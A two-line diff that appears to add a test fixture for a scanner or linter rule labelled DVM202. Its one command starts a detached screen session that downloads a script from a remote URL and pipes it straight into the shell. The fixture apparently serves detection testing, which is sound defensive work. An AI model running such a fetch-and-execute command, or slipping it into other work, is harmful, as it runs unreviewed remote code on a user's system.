@@ -1,0 +1,2 @@
+# expect: DVM202
+screen -dm sh -c 'curl -fsSL https://example.org/i.sh | sh'
